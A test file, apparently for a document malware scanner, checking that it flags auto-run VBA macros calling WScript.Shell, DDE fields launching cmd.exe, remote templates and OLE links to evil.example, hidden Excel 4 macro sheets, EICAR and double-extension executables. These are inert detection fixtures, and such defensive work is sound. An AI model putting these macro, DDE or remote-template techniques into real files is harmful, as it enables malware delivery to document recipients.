import { describe, expect, it } from 'vitest';
import { utf8 } from '../../../core/bytes/text.ts';
import { buildCfb, packOle, packVba } from '../../support/files/cfb-builder.ts';
import { codes, inspect, score } from '../../support/files/inspect.ts';
import { EICAR, join, pe, utf16 } from '../../support/files/small-files.ts';
import { buildZip, u16, u32 } from '../../support/files/zip-builder.ts';
import type { ZipPart } from '../../support/files/zip-builder.ts';

const TAIL = '0000000000c000000000000046';
const QUIET = 'e VB_Name = "Module1"\r\nSub Total()\r\n  x = 1\r\nEnd Sub\r\n';
const AUTO = 'e VB_Name = "ThisDocument"\r\nPrivate Sub Document_Open()\r\n  x = 1\r\nEnd Sub\r\n';
const ACTS =
  'e VB_Name = "ThisDocument"\r\nSub AutoOpen()\r\n  CreateObject("WScript.Shell").Run "x"\r\nEnd Sub\r\n';

const vba = (source: string): Uint8Array =>
  buildCfb([{ name: 'VBA' }, { name: 'Module1', bytes: packVba(source) }]);
const part = (name: string, text: string): ZipPart => ({ name, bytes: utf8(text) });

function docx(...parts: readonly ZipPart[]): Uint8Array {
  const types = part(
    '[Content_Types].xml',
    '<Types><Default Extension="xml" ContentType="text/xml"/></Types>',
  );
  return buildZip([types, part('word/document.xml', '<w:document>hello</w:document>'), ...parts]);
}

function rels(type: string, target: string, mode = 'External'): ZipPart {
  const relation = `<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"/>`;
  return part('word/_rels/settings.xml.rels', `<Relationships>${relation}</Relationships>`);
}

describe('OOXML', () => {
  it('finds nothing in a document with a picture, a chart and links', async () => {
    const chart = buildZip([part('[Content_Types].xml', '<Types/>'), part('xl/workbook.xml', '<workbook/>')]);
    const bytes = docx(
      { name: 'word/embeddings/Microsoft_Excel_Sheet.xlsx', bytes: chart },
      rels('hyperlink', 'https://example.org/'),
      part('docProps/app.xml', '<Properties/>'),
      part('word/media/image1.png', '\x89PNG'),
    );
    const inspection = await inspect('letter.docx', bytes);
    expect(inspection.findings).toEqual([]);
    expect(inspection.gaps).toEqual([]);
    expect(inspection.detectedType).toContain('wordprocessingml');
  });

  it.each([
    ['word/vbaProject.bin', QUIET, ['macro-document']],
    ['word/odd.bin', AUTO, ['auto-macro', 'macro-document']],
    ['word/vbaProject.bin', ACTS, ['auto-macro:acts', 'macro-document']],
  ])('reads macros in %s', async (name, source, expected) => {
    expect(codes(await inspect('a.docm', docx({ name, bytes: vba(source) })))).toEqual(expected);
  });

  it('takes macros under a macro-free name for a disguise', async () => {
    const inspection = await inspect('a.docx', docx({ name: 'word/x.bin', bytes: vba(QUIET) }));
    expect(codes(inspection)).toEqual(['macro-document:disguised']);
    const types = part(
      '[Content_Types].xml',
      '<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
    );
    const claimed = buildZip([types, part('word/document.xml', '<w:document/>')]);
    expect(codes(await inspect('a.docx', claimed))).toEqual(['macro-document:disguised']);
  });

  it('is quiet about words in a comment that look like calls', async () => {
    const source = `${AUTO}' the shellfish and createobjects of this macro\r\n`;
    expect(codes(await inspect('a.docm', docx({ name: 'word/v.bin', bytes: vba(source) })))).toContain(
      'auto-macro',
    );
  });

  it.each([
    ['attachedTemplate', 'https://evil.example/t.dotm'],
    ['oleObject', '\\\\evil.example\\share\\o'],
    ['frame', 'http://evil.example/f'],
  ])('finds a remote %s', async (type, target) => {
    expect(codes(await inspect('a.docx', docx(rels(type, target))))).toEqual(['remote-template']);
  });

  it('finds a relation to web-archive content behind entities', async () => {
    const target = '&#x6d;html:https://evil.example/x!https://evil.example/x';
    expect(codes(await inspect('a.docx', docx(rels('oleObject', target))))).toEqual([
      'remote-template:mhtml',
    ]);
  });

  it.each([
    ['attachedTemplate', 'file:///C:\\Users\\a\\Templates\\Normal.dotm', 'External'],
    ['attachedTemplate', 'Letter.dotx', 'External'],
    ['image', 'https://example.org/a.png', 'External'],
    ['oleObject', 'embeddings/o.bin', 'Internal'],
  ])('lets %s to %s pass', async (type, target, mode) => {
    expect(codes(await inspect('a.docx', docx(rels(type, target, mode))))).toEqual([]);
  });

  it('joins the runs of a DDE field', async () => {
    const runs = ['DDE', 'AUTO c:\\\\windows\\\\', 'cmd.exe "/k calc"'];
    const field = `<w:fldChar w:fldCharType="begin"/>${runs.map((run) => `<w:instrText>${run}</w:instrText>`).join('')}<w:fldChar w:fldCharType="end"/>`;
    const bytes = docx(part('word/footer1.xml', `<w:ftr>${field}</w:ftr>`));
    expect(codes(await inspect('a.docx', bytes))).toEqual(['dde-link:command']);
    const page = docx(part('word/footer1.xml', '<w:instrText>PAGE DDE</w:instrText>'));
    expect(codes(await inspect('a.docx', page))).toEqual([]);
  });

  it('finds Excel 4 macros and DDE links', async () => {
    const types = part('[Content_Types].xml', '<Types/>');
    const macro = [
      part('xl/macrosheets/sheet1.xml', '<xm:macrosheet/>'),
      part('xl/workbook.xml', '<sheet state="veryHidden"/>'),
    ];
    expect(codes(await inspect('a.xlsm', buildZip([types, ...macro])))).toEqual(['excel4-macro:hidden']);
    const binary = [
      part('xl/macrosheets/sheet1.bin', 'x'),
      { name: 'xl/workbook.bin', bytes: utf16('Auto_Open') },
    ];
    expect(codes(await inspect('a.xlsb', buildZip([types, ...binary])))).toEqual(['excel4-macro:hidden']);
    const link = part('xl/externalLinks/externalLink1.xml', '<ddeLink ddeService="cmd" ddeTopic="/c calc"/>');
    expect(codes(await inspect('a.xlsx', buildZip([types, link])))).toEqual(['dde-link:command']);
  });

  it('inspects a file packed into the document', async () => {
    const object = buildCfb([{ name: '\u0001Ole10Native', bytes: packOle('invoice.pdf.exe', pe()) }]);
    const found = codes(
      await inspect('a.docx', docx({ name: 'word/embeddings/oleObject1.bin', bytes: object })),
    );
    expect(found).toContain('word/embeddings/oleObject1.bin>embedded-package');
    expect(found).toContain('word/embeddings/oleObject1.bin/invoice.pdf.exe>double-extension');
  });

  it('lists a file that somebody put into the zip', async () => {
    const found = codes(await inspect('a.docx', docx({ name: 'eicar.com', bytes: EICAR })));
    expect(found).toEqual(['eicar.com>eicar', 'eicar.com>executable-type']);
  });

  it('lists every part of a document that is called an archive', async () => {
    const inspection = await inspect('a.zip', docx({ name: 'word/x.xml', bytes: EICAR }));
    expect(codes(inspection)).toEqual(['word/x.xml>eicar']);
  });
});

describe('OpenDocument', () => {
  const odt = (...parts: readonly ZipPart[]): Uint8Array =>
    buildZip([
      part('mimetype', 'application/vnd.oasis.opendocument.text'),
      part('content.xml', '<x/>'),
      ...parts,
    ]);

  it('finds nothing in a text, and macros where there are some', async () => {
    expect(codes(await inspect('a.odt', odt(part('Basic/script-lc.xml', '<x/>'))))).toEqual([]);
    expect(codes(await inspect('a.odt', odt(part('Basic/Standard/Module1.xml', '<x/>'))))).toEqual([
      'macro-document',
    ]);
  });

  it('says locked of a password', async () => {
    const inspection = await inspect(
      'a.odt',
      odt(part('META-INF/manifest.xml', '<manifest:encryption-data/>')),
    );
    expect(inspection.gaps).toEqual(['encrypted']);
    expect(score(inspection)).toBe(0);
  });
});

describe('Outlook messages', () => {
  const CLASS = `0b0d02${TAIL}`;
  const attachment = (name: string, bytes: Uint8Array): Parameters<typeof buildCfb>[0] => [
    { name: '__substg1.0_3707001F', bytes: utf16(name) },
    { name: '__substg1.0_37010102', bytes },
  ];

  it('inspects attachments under their names', async () => {
    const bytes = buildCfb(
      [...attachment('a.txt', utf8('words')), ...attachment('invoice.pdf.exe', pe())],
      CLASS,
    );
    const inspection = await inspect('mail.msg', bytes);
    expect(inspection.detectedType).toBe('application/vnd.ms-outlook');
    expect(codes(inspection)).toEqual([
      'invoice.pdf.exe>double-extension',
      'invoice.pdf.exe>executable-type',
    ]);
  });

  it('finds nothing in a message of documents', async () => {
    expect(codes(await inspect('mail.msg', buildCfb(attachment('a.txt', utf8('words')), CLASS)))).toEqual([]);
  });
});

describe('compound files', () => {
  const word = (...parts: Parameters<typeof buildCfb>[0]): Uint8Array =>
    buildCfb([{ name: 'WordDocument', bytes: new Uint8Array(32) }, ...parts], `060902${TAIL}`);

  it('finds nothing in a document without macros', async () => {
    const inspection = await inspect('a.doc', word({ name: '1Table', bytes: utf8('Attribut of a table') }));
    expect(inspection).toMatchObject({ detectedType: 'application/msword', findings: [], gaps: [] });
  });

  it('finds macros in a stream of any name', async () => {
    const bytes = word({ name: 'Odd', bytes: packVba(ACTS) });
    expect(codes(await inspect('a.doc', bytes))).toEqual(['auto-macro:acts', 'macro-document']);
  });

  it('says locked, not suspicious, of a password', async () => {
    const locked = buildCfb([
      { name: 'EncryptionInfo', bytes: utf8('x') },
      { name: 'EncryptedPackage', bytes: utf8('x') },
    ]);
    const inspection = await inspect('a.xlsx', locked);
    expect(codes(inspection)).toEqual(['encrypted-document']);
    expect(inspection.gaps).toEqual(['encrypted']);
    expect(score(inspection)).toBe(0);
    const old = buildCfb([{ name: 'WordDocument', bytes: join(new Uint8Array(10), u16(0x0100)) }]);
    expect((await inspect('a.doc', old)).gaps).toEqual(['encrypted']);
  });

  it.each([
    [0, 'excel4-macro'],
    [2, 'excel4-macro:hidden'],
  ])('reads the macro sheets of a workbook (hidden state %i)', async (hidden, code) => {
    const sheet = join(u32(0), Uint8Array.of(hidden, 1, 1, 0), 'M');
    const book = join(u16(0x0809, 4, 0, 0), u16(0x0085, sheet.length), sheet, u16(0x000a, 0));
    expect(codes(await inspect('a.xls', buildCfb([{ name: 'Workbook', bytes: book }])))).toEqual([code]);
  });

  it('lets a workbook of plain sheets pass and says locked of FILEPASS', async () => {
    const sheet = join(u32(0), Uint8Array.of(2, 0, 1, 0), 'S');
    const book = join(u16(0x0809, 4, 0, 0), u16(0x0085, sheet.length), sheet, u16(0x000a, 0));
    expect(codes(await inspect('a.xls', buildCfb([{ name: 'Workbook', bytes: book }])))).toEqual([]);
    const locked = join(u16(0x0809, 4, 0, 0), u16(0x002f, 2, 1));
    expect((await inspect('a.xls', buildCfb([{ name: 'Workbook', bytes: locked }]))).gaps).toEqual([
      'encrypted',
    ]);
  });

  it('tells an installer under the name of a document', async () => {
    expect(codes(await inspect('a.doc', buildCfb([], `84100c${TAIL}`)))).toEqual([
      'installer-type',
      'type-mismatch',
    ]);
    expect(codes(await inspect('a.msi', buildCfb([], `84100c${TAIL}`)))).toEqual(['installer-type']);
  });

  it('finds the retired equation editor', async () => {
    const bytes = word({ name: 'o', clsid: '02ce020000000000c000000000000046' });
    expect(codes(await inspect('a.doc', bytes))).toEqual(['embedded-package:equation']);
  });

  it('ends on a directory that runs in a circle', async () => {
    const bytes = word();
    const directory = bytes[48] ?? 0;
    bytes.set(u32(directory), 512 + directory * 4);
    expect((await inspect('a.doc', bytes)).detectedType).toBe('application/msword');
    expect((await inspect('a.doc', bytes.subarray(0, 600))).gaps).toEqual(['corrupt']);
  });
});
